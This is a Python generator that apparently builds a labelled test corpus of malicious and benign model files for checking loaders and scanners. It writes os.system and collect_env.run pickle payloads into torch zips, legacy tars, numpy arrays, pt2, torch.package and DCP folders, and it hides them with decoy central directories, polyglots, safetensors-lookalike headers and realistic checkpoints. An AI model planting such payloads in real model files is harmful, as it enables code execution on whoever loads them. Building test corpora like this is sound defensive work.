        put(f'mal/pickle/{name}.pkl', b, 'malicious', fam, 'pickle.load', what, **ex(fam))
    # the same payloads inside a torch zip (torch.load, weights_only=False)
    for fam, name, b, what in pks:
        if fam.startswith('opcode_') and fam not in ('opcode_newobj_ex', 'opcode_ext', 'opcode_computed_stack_global'):
            continue  # text/opcode tricks stay as raw pickles (some not valid inside torch)
        put(f'mal/torchzip/{name}.pt', torch_zip(b), 'malicious', fam, 'torch.load',
            what + ' [in torch zip data.pkl]', **ex(fam))

    _containers(put, pickle)
    try:
        _formats(put, outdir)
    except Exception as e:  # keep generation robust
        print('formats failed:', repr(e), file=sys.stderr)
    _benign(put, outdir)
    recs.extend(_DIRRECS)
    _DIRRECS.clear()
    return recs


def _containers(put, pickle):
    P = pk(SYSTEM, proto=2)
    benign_pkl = pickle.dumps({'w': [1.0, 2.0]}, protocol=2)
    put('mal/container/case_data_PKL.pt', torch_zip(P, pkl_name='data.PKL'), 'malicious',
        'zip_case_member', 'torch.load', 'only member is archive/data.PKL (miniz lookups are case-insensitive)')
    put('mal/container/case_DATA_pkl.pt', torch_zip(P, pkl_name='DATA.Pkl'),
        'malicious', 'zip_case_member', 'torch.load', 'only member is archive/DATA.Pkl')
    put('mal/container/deflated_data_pkl.pt', torch_zip(P, compress=zipfile.ZIP_DEFLATED), 'malicious',
        'zip_deflate', 'torch.load', 'all members deflate-compressed')
    # duplicate names: miniz resolves to the LAST central-directory entry (payload-first variant does not fire -> dropped)
    put('mal/container/dup_decoy_first.pt', torch_zip(P, first=[('archive/data.pkl', benign_pkl)]), 'malicious',
        'zip_duplicate_member', 'torch.load', 'two archive/data.pkl members: benign decoy first, payload second (loader uses the last)')
    z = torch_zip(P)
    put('mal/container/appended_junk.pt', z + b'\x00' * 100 + b'trailing-junk' * 10, 'malicious',
        'zip_appended', 'torch.load', 'torch zip followed by appended bytes')
    put('mal/container/zip_comment.pt', _with_comment(z, b'\x80\x02K\x01.'), 'malicious',
        'zip_appended', 'torch.load', 'EOCD comment holding a harmless pickle')
    put('mal/container/zip64_second_cd.pt', _zip64_second_cd(benign_pkl, P), 'malicious',
        'zip64_locator_second_cd', 'torch.load',
        'plain EOCD points at a decoy central dir; a zip64 locator/EOCD64 points at the real one')
    # legacy non-zip stack
    put('mal/container/legacy_stack_obj.pt', legacy_stack(P), 'malicious', 'legacy_stack_payload', 'torch.load',
        'legacy torch.save stream: payload in the 4th (object) pickle after magic/protocol/sys_info')
    put('mal/container/legacy_stack_keys.pt', legacy_stack(pickle.dumps({}, protocol=2), P), 'malicious',
        'legacy_stack_payload', 'torch.load', 'legacy stream: payload in the 5th (storage keys) pickle')
    t0 = pickle.dumps(0, protocol=2)
    s0 = t0 + pickle.dumps([], protocol=2)  # 0 storages, no views
    put('mal/container/legacy_tar_storages.tar', legacy_tar(P, t0, benign_pkl), 'malicious', 'legacy_tar',
        'torch.load', 'legacy tar checkpoint: payload in "storages"')
    put('mal/container/legacy_tar_pickle.tar', legacy_tar(s0, t0, P), 'malicious',
        'legacy_tar', 'torch.load', 'legacy tar: payload in "pickle"')
    p0 = b"cposix\nsystem\n(S'" + CMD.encode() + b"'\ntR."
    put('mal/container/legacy_tar_proto0_storages.tar', legacy_tar(p0, t0, benign_pkl), 'malicious',
        'legacy_tar', 'torch.load', 'legacy tar: protocol-0 payload in "storages"')
    p1 = b'cposix\nsystem\n(X' + struct.pack('<I', len(CMD)) + CMD.encode() + b'tR.'
    put('mal/container/legacy_tar_proto1_pickle.tar', legacy_tar(s0, t0, p1), 'malicious',
        'legacy_tar', 'torch.load', 'legacy tar: protocol-1 (no PROTO opcode) payload in "pickle"')
    put('mal/container/legacy_tar_tensors.tar', legacy_tar(s0, P, benign_pkl), 'malicious',
        'legacy_tar', 'torch.load', 'legacy tar: payload in "tensors"')
    put('mal/container/tar_polyglot_pickle_head.pt',
        legacy_tar(P, t0, benign_pkl, first=('\udc80\x02K\x01.', b'')), 'malicious', 'tar_polyglot', 'torch.load',
        'tar whose first member name is a harmless pickle (pickle.load sees 1), torch.load reads tar')
    put('mal/container/tar_polyglot_pickle_head.pkl',
        legacy_tar(P, t0, benign_pkl, first=('\udc80\x02K\x01.', b'')), 'benign', 'tar_polyglot_pickle_view',
        'pickle.load', 'same polyglot loaded with pickle.load: just 1 (still dangerous for torch.load!)',
        note='label is per-loader; the bytes are identical to the .pt sibling')
    # safetensors-looking prefix
    L = 16
    body = b'B' + struct.pack('<I', L) + b'\x00\x00\x00{"__metadata__"'[:L].ljust(L, b' ') + b'0'
    st = body + P[2:]  # no PROTO opcode: the file starts with BINBYTES
    hdr_len = struct.unpack('<Q', st[:8])[0]
    st = st + b' ' * max(0, hdr_len + 8 - len(st) + 8)
    put('mal/container/safetensors_lookalike.pkl', st, 'malicious', 'safetensors_header_lookalike', 'pickle.load',
        f'first 8 bytes = u64 {hdr_len} (< file size) and byte 8 is "{{" but it is a pickle')
    put('mal/container/safetensors_lookalike.bin', st, 'malicious', 'safetensors_header_lookalike',
        'torch.load', 'same bytes named .bin, torch.load takes the legacy pickle path (a .safetensors name would be routed to safetensors)')
    put('mal/container/raw_pickle_named.pt', P, 'malicious', 'raw_pickle_as_checkpoint', 'torch.load',
        'bare payload pickle named .pt: torch.load reads the "magic number" pickle first, payload runs')
    put('mal/container/raw_pickle_named.npy', P, 'malicious', 'raw_pickle_as_npy', 'numpy.load',
        'bare pickle named .npy: numpy.load(allow_pickle=True) falls back to pickle.load for non-npy/non-zip bytes')
    put('mal/container/prefix_not_archive.pt', torch_zip(P, prefix='resnet50_weights'), 'malicious', 'zip_prefix_name',
        'torch.load', 'torch zip whose top folder is not "archive" (resnet50_weights/data.pkl)')
    put('mal/container/prefix_unicode.pt', torch_zip(P, prefix='m\u00f6dell \u0430\u0440\u0445\u0438\u0432'), 'malicious',
        'zip_prefix_name', 'torch.load', 'non-ASCII top folder with a space')
    put('mal/container/zip64_forced.pt', _zip64_forced(P), 'malicious', 'zip64_extra', 'torch.load',
        'every member written with zip64 extra fields (force_zip64)')
    put('mal/container/data_pkl_last_member.pt', torch_zip(b'', pkl_name='data.pkl.bak', extra=[('archive/data.pkl', P)],
                                                            first=[('archive/a_readme.txt', b'weights only\n')]),
        'malicious', 'zip_member_order', 'torch.load',
        'data.pkl is the last member, after a decoy data.pkl.bak and a text file')
    # numpy object arrays
    put('mal/numpy/obj_lt_O.npy', npy_bytes('<O', P), 'malicious', 'npy_object', 'numpy.load',
        "descr '<O' object array: pickle body runs on np.load(allow_pickle=True)")
    put('mal/numpy/obj_struct_field.npy', npy_bytes("[('a', '<i4'), ('b', '|O')]", P, shape='(1,)'),
        'malicious', 'npy_object', 'numpy.load', "structured descr with one object field [('a','<i4'),('b','|O')]")
    v2 = npy_bytes('<O', P)
    hl = struct.unpack('<H', v2[8:10])[0]
    put('mal/numpy/obj_v2_header.npy', b'\x93NUMPY\x02\x00' + struct.pack('<I', hl) + v2[10:10 + hl] + v2[10 + hl:],
        'malicious', 'npy_object', 'numpy.load', "format version 2.0 header (4-byte header length) with '<O'")
    bio = io.BytesIO()
    with zipfile.ZipFile(bio, 'w') as zz:
        zz.writestr(_zi('weights.npy'), npy_bytes('<f4', b'\x00' * 4))
        zz.writestr(_zi('meta.npy', zipfile.ZIP_DEFLATED), npy_bytes('<O', P))
    put('mal/numpy/npz_second_member.npz', bio.getvalue(), 'malicious', 'npz_object', 'numpy.load',
        'npz: float member first, deflated object member with payload second')


def _zip64_forced(data_pkl):
    bio = io.BytesIO()
    with zipfile.ZipFile(bio, 'w') as z:
        for n, b in (('archive/data.pkl', data_pkl), ('archive/byteorder', b'little'), ('archive/version', b'3\n')):
            with z.open(_zi(n), 'w', force_zip64=True) as f:
                f.write(b)
    return bio.getvalue()


def _with_comment(z, comment):
    # set EOCD comment
    i = z.rfind(b'PK\x05\x06')
    return z[:i + 20] + struct.pack('<H', len(comment)) + comment


def _prepend(z, pre):
    # prepend bytes and shift all offsets (valid self-consistent zip with a prefix)
    bio = io.BytesIO(z)
    src = zipfile.ZipFile(bio)
    out = io.BytesIO()
    out.write(pre)
    with zipfile.ZipFile(out, 'a') as dst:
        for zi in src.infolist():
            dst.writestr(zi, src.read(zi.filename))
    return out.getvalue()


def _zip64_second_cd(decoy_pkl, payload_pkl):
    """Two central directories: classic EOCD -> decoy CD; zip64 locator -> EOCD64 -> real CD."""
    real = torch_zip(payload_pkl, prefix='archive')
    decoy = torch_zip(decoy_pkl, prefix='archive')
    # parse both: we keep real's local entries + real CD, then append decoy locals + decoy CD
    def split(z):
        i = z.rfind(b'PK\x05\x06')
        n, cdsize, cdoff = struct.unpack('<HII', z[i + 10:i + 20])
        return z[:cdoff], z[cdoff:cdoff + cdsize], n
    rl, rcd, rn = split(real)
    dl, dcd, dn = split(decoy)
    base = len(rl)
    # shift decoy CD offsets by base
    def shift(cd, delta):
        out = bytearray(cd); p = 0
        while p < len(out):
            assert out[p:p + 4] == b'PK\x01\x02'
            fn, ex, cm = struct.unpack('<HHH', out[p + 28:p + 34])
            off = struct.unpack('<I', out[p + 42:p + 46])[0]
            out[p + 42:p + 46] = struct.pack('<I', off + delta)
            p += 46 + fn + ex + cm
        return bytes(out)
    dcd2 = shift(dcd, base)
    body = rl + dl
    real_cd_off = len(body)
    body += rcd
    decoy_cd_off = len(body)
    body += dcd2
    eocd64_off = len(body)
    eocd64 = b'PK\x06\x06' + struct.pack('<QHHIIQQQQ', 44, 45, 45, 0, 0, rn, rn, len(rcd), real_cd_off)
    loc = b'PK\x06\x07' + struct.pack('<IQI', 0, eocd64_off, 1)
    eocd = b'PK\x05\x06' + struct.pack('<HHHHIIH', 0, 0, dn, dn, len(dcd2), decoy_cd_off, 0)
    return body + eocd64 + loc + eocd



def _zip_patch(src_bytes, repl):
    zi = zipfile.ZipFile(io.BytesIO(src_bytes))
    bio = io.BytesIO()
    with zipfile.ZipFile(bio, 'w') as out:
        for info in zi.infolist():
            b = zi.read(info.filename)
            for k, fn in repl.items():
                if info.filename.endswith(k):
                    b = fn(b)
            info.date_time = ZDATE
            out.writestr(info, b)
    return bio.getvalue()


def _torch_save_bytes(obj, **kw):
    import torch
    bio = io.BytesIO()
    torch.save(obj, bio, **kw)
    return bio.getvalue()


class _Evil:
    """__reduce__ -> os.system(cmd); pickled by reference to posix.system, the class itself is not referenced"""

    def __reduce__(self):
        return (os.system, (CMD,))


def _formats(put, outdir):
    """jit / pt2 / torch.package / dcp / HF-folder / mmap samples (need torch at generation time)."""
    import pickle
    import tempfile
    import warnings
    warnings.filterwarnings('ignore')
    import torch
    from typing import Tuple
    torch.manual_seed(0)
    P = pk(SYSTEM, proto=2)
    PZ = torch_zip(P)

    # --- TorchScript: scripted __setstate__ runs at torch.jit.load ---------------
    class RtJit(torch.nn.Module):
        def __init__(self):
            super().__init__()
            self.p = 'rt_sentinel_jit'
            self.n = 0

        @torch.jit.export
        def __getstate__(self) -> Tuple[str, bool, int]:
            return (self.p, self.training, self.n)

        @torch.jit.export
        def __setstate__(self, s: Tuple[str, bool, int]) -> None:
            self.p = s[0]
            self.training = s[1]
            t = torch.from_file(s[0], True, 4, dtype=torch.uint8)
            t.fill_(70)
            self.n = t.numel()

        def forward(self, x):
            return x + self.n

    bio = io.BytesIO()
    torch.jit.save(torch.jit.script(RtJit()), bio)
    put('mal/jit/setstate_from_file.pt', _zip_patch(bio.getvalue(), {}), 'malicious', 'jit_setstate_from_file',
        'torch.jit.load', 'TorchScript __setstate__ calls torch.from_file(rel path, shared=True) -> creates ./rt_sentinel_jit')

    class Plain(torch.nn.Module):
        def __init__(self):
            super().__init__()
            self.lin = torch.nn.Linear(2, 2)

        def forward(self, x):
            return torch.tanh(self.lin(x))

    bio = io.BytesIO()
    torch.jit.save(torch.jit.script(Plain()), bio)
    put('benign/jit/plain_scripted.pt', _zip_patch(bio.getvalue(), {}), 'benign', 'jit_plain', 'torch.jit.load',
        'plain scripted Linear+tanh module')

    # --- torch.export .pt2 ------------------------------------------------------
    class N(torch.nn.Module):
        def __init__(self):
            super().__init__()
            self.lin = torch.nn.Linear(2, 2)

        def forward(self, x):
            return self.lin(x)

    with tempfile.TemporaryDirectory() as td:
        ep = torch.export.export(N(), (torch.zeros(1, 2),))
        p2 = os.path.join(td, 'm.pt2')
        torch.export.save(ep, p2)
        pt2 = open(p2, 'rb').read()
    put('benign/pt2/plain_export.pt2', _zip_patch(pt2, {}), 'benign', 'pt2_plain', 'torch.export.load',
        'genuine torch.export.save of a Linear')

    def cfg(b):
        d = json.loads(b)
        d['config']['lin.weight']['use_pickle'] = True
        return json.dumps(d).encode()
    put('mal/pt2/weight_use_pickle.pt2', _zip_patch(pt2, {'weights/model_weights_config.json': cfg,
                                                           'weights/weight_0': lambda b: PZ}),
        'malicious', 'pt2_nested_weights', 'torch.export.load',
        'weights config use_pickle=true -> weight_0 is a torch.save zip loaded with weights_only=False')
    put('mal/pt2/sample_inputs_fallback.pt2', _zip_patch(pt2, {'sample_inputs/model.pt': lambda b: PZ}),
        'malicious', 'pt2_sample_inputs_fallback', 'torch.export.load',
        'sample_inputs/model.pt payload: weights_only=True fails, serde falls back to weights_only=False')

    # --- torch.package -------------------------------------------------------------
    from torch.package import PackageExporter
    with tempfile.TemporaryDirectory() as td:
        pp = os.path.join(td, 'p.pt')
        with PackageExporter(pp) as e:
            e.extern(['os'])
            e.save_source_string('rt_mod', "import os\nopen(os.environ['RT_SENTINEL'], 'w').write('fired')\n"
                                           "class Config:\n    pass\n")
            e.save_binary('pkg', 'data.pkl', pk(B(NX(G('rt_mod', 'Config'), (), {}), {'lr': 0.001}), proto=4))
        put('mal/package/module_source_runs.pt', _zip_patch(open(pp, 'rb').read(), {}), 'malicious',
            'torch_package_source', 'torch.package', 'data.pkl references rt_mod.Config; importing the packaged rt_mod source runs code',
            package='pkg', resource='data.pkl')
        pb = os.path.join(td, 'b.pt')
        with PackageExporter(pb) as e:
            e.save_pickle('pkg', 'data.pkl', {'w': torch.ones(2), 'step': 3})
        put('benign/package/plain_state.pt', _zip_patch(open(pb, 'rb').read(), {}), 'benign', 'torch_package_plain',
            'torch.package', 'torch.package holding a plain dict of tensors', package='pkg', resource='data.pkl')

    # --- DCP --------------------------------------------------------------------------
    import torch.distributed.checkpoint as dcp
    import torch.distributed.checkpoint.filesystem as _fs
    _fs._generate_uuid = lambda: '00000000-0000-4000-8000-000000000000'
    with tempfile.TemporaryDirectory() as td:
        d = os.path.join(td, 'dcp')
        dcp.save({'w': torch.ones(2), 'blob': io.BytesIO(b'hello')}, checkpoint_id=d)
        files = {n: open(os.path.join(d, n), 'rb').read() for n in os.listdir(d)}
        md = pickle.loads(files['.metadata'])
        if getattr(md, 'storage_meta', None) is not None:  # determinism: fixed checkpoint path
            import pathlib
            md.storage_meta.checkpoint_id = pathlib.PosixPath('/ckpt/dcp')
            files['.metadata'] = pickle.dumps(md)
    for n, b in files.items():
        put(f'benign/dcp/plain/{n}', b, None, None, None, None)
    put('mal/dcp/metadata_pickle/.metadata', P, None, None, None, None)
    put('mal/dcp/metadata_pickle/__0_0.distcp', files['__0_0.distcp'], None, None, None, None)
    # payload in the BytesIO item, metadata stays genuine (only dcp dataclasses)
    data = files['__0_0.distcp']
    keys = {k.fqn: (k, v) for k, v in md.storage_data.items()}
    kb, vb = keys['blob']
    kw_, vw = keys['w']
    wbytes = data[vw.offset:vw.offset + vw.length]
    newdata = PZ + wbytes
    md.storage_data[kb] = type(vb)(relative_path=vb.relative_path, offset=0, length=len(PZ),
                                   transform_descriptors=vb.transform_descriptors)
    md.storage_data[kw_] = type(vw)(relative_path=vw.relative_path, offset=len(PZ), length=vw.length,
                                    transform_descriptors=vw.transform_descriptors)
    put('mal/dcp/bytes_item/.metadata', pickle.dumps(md), None, None, None, None)
    put('mal/dcp/bytes_item/__0_0.distcp', newdata, None, None, None, None)
    _dir_rec(put, 'benign/dcp/plain', 'benign', 'dcp_plain', 'dcp', 'genuine DCP save (tensor + BytesIO item); folder sample')
    _dir_rec(put, 'mal/dcp/metadata_pickle', 'malicious', 'dcp_metadata_pickle', 'dcp',
             'DCP folder whose .metadata is an os.system pickle (read with pickle.load)')
    _dir_rec(put, 'mal/dcp/bytes_item', 'malicious', 'dcp_bytes_item', 'dcp',
             'DCP folder with genuine-looking .metadata (only DCP dataclasses); the BytesIO item in __0_0.distcp '
             'is a torch zip loaded with torch.load(weights_only=False)')

    # --- HF Trainer-like folder -----------------------------------------------------------
    from safetensors.torch import save as st_save
    lin = torch.nn.Linear(4, 2)
    sdict = {k: v.detach().clone().contiguous() for k, v in lin.state_dict().items()}
    opt = {'state': {}, 'param_groups': [{'lr': C(G('torch.utils.collect_env', 'run'), CMD), 'betas': (0.9, 0.999),
                                          'weight_decay': 0.01, 'params': [0, 1]}]}
    base = 'mixed/hf_trainer/checkpoint-500/'
    put(base + 'optimizer.pt', torch_zip(pk(opt, proto=2)), 'malicious', 'hf_trainer_optimizer', 'torch.load',
        'HF Trainer folder: optimizer.pt whose param_groups lr is collect_env.run(cmd)')
    put(base + 'model.safetensors', st_save(sdict, metadata={'format': 'pt'}), 'benign', 'hf_trainer_safetensors',
        'safetensors', 'HF Trainer folder: genuine model.safetensors (same folder as a hostile optimizer.pt)')
    put(base + 'trainer_state.json', json.dumps({'global_step': 500, 'epoch': 1.0, 'log_history': []}).encode(),
        None, None, None, None)
    import random
    import numpy as np
    rng = {'python': random.Random(0).getstate(), 'numpy': np.random.RandomState(0).get_state(),
           'cpu': torch.random.get_rng_state()}
    put(base + 'rng_state.pth', _torch_save_bytes(rng), 'benign', 'hf_rng_state', 'torch.load',
        'HF rng_state.pth: python/numpy/torch RNG states (numpy needs weights_only=False)')
    put(base + 'scheduler.pt', _torch_save_bytes({'last_epoch': 500, '_step_count': 501, 'base_lrs': [1e-3]}),
        'benign', 'hf_scheduler', 'torch.load', 'HF scheduler.pt (plain dict)')
    put(base + 'training_args.bin', _torch_save_bytes({'output_dir': 'out', 'learning_rate': 5e-5}),
        'benign', 'hf_training_args', 'torch.load', 'training_args.bin stand-in (plain dict)')

    # --- mmap loader ---------------------------------------------------------------------
    put('mal/torchzip/mmap_payload.pt', torch_zip(P), 'malicious', 'torch_load_mmap', 'torch.load_mmap',
        'torch.load(mmap=True, weights_only=False) of a torch zip with a payload')
    put('benign/torch/mmap_state_dict.pt', _torch_save_bytes(sdict), 'benign', 'torch_load_mmap_plain',
        'torch.load_mmap', 'plain state dict loaded with mmap=True')

    # --- payload buried in otherwise real checkpoints -----------------------------------------
    real_sd = torch.nn.Sequential(torch.nn.Linear(4, 4), torch.nn.Linear(4, 2)).state_dict()
    buried = {'epoch': 7, 'state_dict': real_sd, 'optimizer_states': [{'state': {}, 'param_groups': [{'lr': 0.1}]}],
              'callbacks': {'ModelCheckpoint': {'best_model_score': _Evil()}}}
    put('mal/realistic/buried_in_callbacks.ckpt', _torch_save_bytes(buried), 'malicious', 'buried_payload', 'torch.load',
        'real Lightning-like checkpoint (real tensors), payload deep in callbacks')
    buried1 = dict(buried, state_dict={'w': torch.ones(4)})  # one storage -> deterministic legacy bytes
    put('mal/realistic/buried_in_callbacks_legacy.pt', _torch_save_bytes(buried1, _use_new_zipfile_serialization=False),
        'malicious', 'buried_payload', 'torch.load', 'same, legacy (non-zip) torch.save format')
    sd2 = torch.nn.Linear(3, 3).state_dict()
    sd2._metadata['']['evil'] = _Evil()
    put('mal/realistic/state_dict_metadata.pt', _torch_save_bytes(sd2), 'malicious', 'buried_payload', 'torch.load',
        'state_dict OrderedDict whose _metadata (set by BUILD) holds the payload')
    import numpy as np
    arr = np.empty(3, dtype=object)
    arr[:] = ['a', _Evil(), 'c']
    bio = io.BytesIO()
    np.save(bio, arr, allow_pickle=True)
    put('mal/realistic/object_array_element.npy', bio.getvalue(), 'malicious', 'buried_payload', 'numpy.load',
        'np.save of an object array whose 2nd element reduces to os.system')

    # --- weights_only bypass attempts (recorded; expected NOT to fire) ---------------------
    t = torch.ones(2)
    wo1 = _torch_save_bytes({'w': t})
    def inject(b):
        # replace the pickle with payload + original content (payload first, then result)
        return P[:-1] + b'0' + b[2:]
    put('mal/weights_only/payload_before_state.pt', _zip_patch(wo1, {'data.pkl': inject}), 'malicious',
        'weights_only_bypass_attempt', 'torch.load_weights_only',
        'os.system payload injected before a real state dict; weights_only=True must refuse (expect no fire)',
        expect_fire=False)
    put('mal/weights_only/ext_copyreg.pt', torch_zip(dict(malicious_pickles_by_name())['ext1_copyreg']), 'malicious',
        'weights_only_bypass_attempt', 'torch.load_weights_only', 'EXT1 via copyreg.add_extension under weights_only (expect no fire)',
        expect_fire=False)
    put('mal/weights_only/legacy_tar.tar', legacy_tar(P, pickle.dumps(0, protocol=2), pickle.dumps({}, protocol=2)), 'malicious',
        'weights_only_bypass_attempt', 'torch.load_weights_only', 'legacy tar under weights_only=True (refused; expect no fire)',
        expect_fire=False)


def _dir_rec(put, rel, label, family, loader, what):
    _DIRRECS.append(dict(file=rel, label=label, family=family, loader=loader, what=what, folder=True))


_DIRRECS = []


def malicious_pickles_by_name():
    return [(n, b) for _, n, b, _ in malicious_pickles()]


def _benign(put, outdir):
    import pickle
    import warnings
    warnings.filterwarnings('ignore')
    import torch
    import numpy as np
    import argparse, collections, datetime, decimal, fractions, functools, inspect, json as _json
    import pathlib, random, time, typing, zoneinfo, enum, signal, http
    torch.manual_seed(0)

    def tb(rel, obj, fam, what, loader='torch.load', **kw):
        put('benign/torch/' + rel, _torch_save_bytes(obj, **kw), 'benign', fam, loader, what)

    def pb(rel, obj, fam, what, proto=4):
        put('benign/pickle/' + rel, pickle.dumps(obj, protocol=proto), 'benign', fam, 'pickle.load', what)

    zi = {'tz': zoneinfo.ZoneInfo('Europe/Paris'), 'utc': zoneinfo.ZoneInfo('UTC'),
          'when': datetime.datetime(2024, 1, 2, 3, 4, 5, tzinfo=zoneinfo.ZoneInfo('Europe/Paris'))}
    tb('zoneinfo.pt', zi, 'zoneinfo', "zoneinfo.ZoneInfo values (pickled as getattr(ZoneInfo,'_unpickle'))")
    pb('zoneinfo.pkl', zi, 'zoneinfo', 'zoneinfo.ZoneInfo via pickle')
    rng = {'gen': np.random.default_rng(0), 'seed': np.random.SeedSequence(1234),
           'rs': np.random.RandomState(0), 'rs_state': np.random.RandomState(0).get_state(),
           'bitgen': np.random.PCG64(5)}
    tb('numpy_rng.pt', rng, 'numpy_rng', 'numpy Generator / SeedSequence / RandomState / PCG64 state')
    pb('numpy_rng.pkl', rng, 'numpy_rng', 'numpy RNG objects via pickle')
    rec = np.rec.array([(1, 2.0, b'ab')], dtype=[('a', '<i4'), ('b', '<f8'), ('c', 'S2')])
    tb('numpy_recarray.pt', {'rec': rec}, 'numpy_recarray', 'numpy.rec.recarray')
    hints = {'a': typing.List[int], 'b': typing.Dict[str, typing.Optional[float]], 'c': typing.Tuple[int, ...],
             'd': list[int], 'e': typing.Union[int, str]}
    tb('typing_hints.pt', hints, 'typing_hints', 'typing hints (pickled via _operator.getitem(typing.List, int))')
    pb('typing_hints.pkl', hints, 'typing_hints', 'typing hints via pickle', proto=2)
    x = torch.arange(6.).reshape(2, 3)
    tb('return_types.pt', {'max': torch.max(x, 0), 'topk': torch.topk(x, 2), 'sort': torch.sort(x)},
       'torch_return_types', 'torch.return_types.max/topk/sort namedtuple-like results')
    tb('struct_time.pt', {'t': time.gmtime(0)}, 'time_struct_time', 'time.struct_time')
    misc = {'dt': datetime.datetime(2020, 5, 17, 1, 2, 3), 'date': datetime.date(2020, 1, 1),
            'td': datetime.timedelta(days=3), 'tz': datetime.timezone(datetime.timedelta(hours=2)),
            'dec': decimal.Decimal('3.14159'), 'frac': fractions.Fraction(3, 7),
            'od': collections.OrderedDict(a=1, b=2), 'dd': collections.defaultdict(list, {'x': [1]}),
            'cnt': collections.Counter('hello'), 'dq': collections.deque([1, 2, 3], maxlen=5),
            'set': {1, 2, 3}, 'fs': frozenset({10, 20}), 'ba': bytearray(b'\x00\x01'), 'cx': complex(1, -2),
            'nan': float('nan'), 'big': 2 ** 100, 'neg': -2 ** 70, 'by': b'\xff' * 3, 'sl': slice(1, 5, 2),
            'rng': range(3), 'ell': Ellipsis, 'ni': NotImplemented}
    tb('stdlib_values.pt', misc, 'stdlib_values', 'datetime/decimal/fractions/collections/sets/bytearray/complex/slice/range')
    for proto in (0, 1, 2, 5):
        pb(f'stdlib_values_p{proto}.pkl', misc, 'stdlib_values', f'same values, pickle protocol {proto}', proto=proto)
    lin = torch.nn.Linear(3, 2)
    hp = {'hyper_parameters': {'optimizer': functools.partial(torch.optim.AdamW, lr=1e-3, weight_decay=0.01),
                               'scheduler': functools.partial(torch.optim.lr_scheduler.StepLR, step_size=10),
                               'loss': torch.nn.CrossEntropyLoss, 'act': torch.nn.functional.gelu},
          'state_dict': lin.state_dict(), 'epoch': 3, 'global_step': 42, 'pytorch-lightning_version': '2.4.0'}
    tb('lightning_hparams.ckpt', hp, 'lightning_partial', 'Lightning-like ckpt: functools.partial(torch.optim.AdamW, lr=...) hparams')
    seq = torch.nn.Sequential(torch.nn.Linear(3, 4), torch.nn.ReLU(), torch.nn.Linear(4, 2))
    seq.act = torch.tanh
    tb('whole_sequential_act_tanh.pt', seq, 'whole_module', 'torch.save(nn.Sequential) (whole module) with .act = torch.tanh')
    tb('whole_modules_misc.pt', {'bn': torch.nn.BatchNorm1d(3), 'lstm': torch.nn.LSTM(2, 3), 'emb': torch.nn.Embedding(4, 2)},
       'whole_module', 'whole torch.nn BatchNorm1d/LSTM/Embedding objects')
    sd = _torch_save_bytes({'w': torch.ones(3), 'b': torch.zeros(2)})
    put('benign/torch/deflated_state_dict.pt', _rezip(sd, zipfile.ZIP_DEFLATED), 'benign', 'zip_deflate_plain',
        'torch.load', 'normal checkpoint re-zipped with deflate compression')
    put('benign/torch/deflated_state_dict_wo.pt', _rezip(sd, zipfile.ZIP_DEFLATED), 'benign', 'zip_deflate_plain',
        'torch.load_weights_only', 'deflated checkpoint, weights_only=True')
    put('benign/torch/appended_bytes_state_dict.pt', sd + b'\x00' * 64, 'benign', 'zip_appended_plain',
        'torch.load_weights_only', 'normal checkpoint with trailing zero bytes')
    try:
        import yaml
        cref = {'loader': yaml.FullLoader}
        tb('yaml_fullloader_ref.pt', cref, 'class_reference', 'config holding a reference to yaml.FullLoader class')
    except ImportError:
        pass
    cref = {'decoder': _json.JSONDecoder, 'encoder': _json.encoder.JSONEncoder, 'dtype_cls': np.float32,
            'path_cls': pathlib.PurePosixPath}
    tb('class_refs.pt', cref, 'class_reference', 'config holding class references (json.JSONDecoder, numpy.float32, PurePosixPath)')
    args = argparse.Namespace(lr=0.1, out=pathlib.PosixPath('/tmp/x'), pure=pathlib.PurePosixPath('a/b'),
                              sig=signal.Signals.SIGTERM, status=http.HTTPStatus.OK, flag=__import__('re').IGNORECASE)
    tb('argparse_namespace.pt', {'args': args}, 'argparse_pathlib_enum', 'argparse.Namespace with PosixPath and enum members')
    from torch.distributed.checkpoint.metadata import ChunkStorageMetadata, TensorProperties
    tb('torch_dataclasses.pt', {'chunk': ChunkStorageMetadata(offsets=torch.Size([0]), sizes=torch.Size([2])),
                                'props': TensorProperties(dtype=torch.float16)}, 'dataclasses',
       "torch's own dataclasses (DCP ChunkStorageMetadata / TensorProperties)")
    tb('size_dtype_device.pt', {'size': torch.Size([2, 3]), 'dtype': torch.bfloat16, 'dev': torch.device('cpu'),
                                'layout': torch.strided, 'qscheme': torch.per_tensor_affine}, 'torch_meta_values',
       'torch.Size / dtype / device / layout / qscheme')
    tb('random_state.pt', {'py': random.Random(42).getstate()}, 'random_state', 'random.Random().getstate()')
    tb('inspect_signature.pt', {'sig': inspect.signature(_sig_example)}, 'inspect_signature',
       'inspect.Signature (Parameter kinds are an enum)')
    model_pickled = pickle.dumps(torch.nn.Linear(2, 2).state_dict(), protocol=2)
    put('benign/pickle/pickle_dumps_state_dict.pkl', model_pickled, 'benign', 'storage_load_from_bytes_plain', 'pickle.load',
        'pickle.dumps(state_dict): tensors via torch.storage._load_from_bytes of plain torch zips')
    put('benign/pickle/pickle_dumps_module.pkl', pickle.dumps(seq, protocol=4), 'benign', 'storage_load_from_bytes_plain',
        'pickle.load', 'pickle.dumps(whole nn.Sequential)')
    tb('legacy_format.pt', {'w': torch.ones(3), 'n': 5}, 'legacy_plain', 'torch.save(_use_new_zipfile_serialization=False)',
       _use_new_zipfile_serialization=False)
    seq1 = torch.nn.Sequential(torch.nn.Linear(3, 2, bias=False), torch.nn.Tanh())  # one storage -> deterministic bytes
    tb('legacy_format_module.pt', seq1, 'legacy_plain', 'legacy format whole module', _use_new_zipfile_serialization=False)
    q = torch.quantize_per_tensor(torch.tensor([0.5, 1.0, -1.0]), 0.1, 10, torch.quint8)
    qc = torch.quantize_per_channel(torch.ones(2, 2), torch.tensor([0.1, 0.2]), torch.tensor([0, 1]), 0, torch.qint8)
    tens = {'bf16': torch.ones(3, dtype=torch.bfloat16), 'f16': torch.ones(2, dtype=torch.float16),
            'q': q, 'qc': qc, 'cplx': torch.ones(2, dtype=torch.complex64), 'bool': torch.tensor([True]),
            'view': torch.arange(10.)[2:5], 'nc': torch.arange(6.).reshape(2, 3).t(), 'i8': torch.tensor([1], dtype=torch.int8)}
    tb('exotic_tensors.pt', tens, 'exotic_tensors', 'bf16/f16/quantized (per-tensor, per-channel)/complex/views/non-contiguous')
    put('benign/torch/exotic_tensors_wo.pt', _torch_save_bytes(tens), 'benign', 'exotic_tensors', 'torch.load_weights_only',
        'same, weights_only=True')
    tb('sparse_and_param.pt', {'sp': torch.eye(3).to_sparse(), 'p': torch.nn.Parameter(torch.ones(2))}, 'exotic_tensors',
       'sparse COO tensor and nn.Parameter')
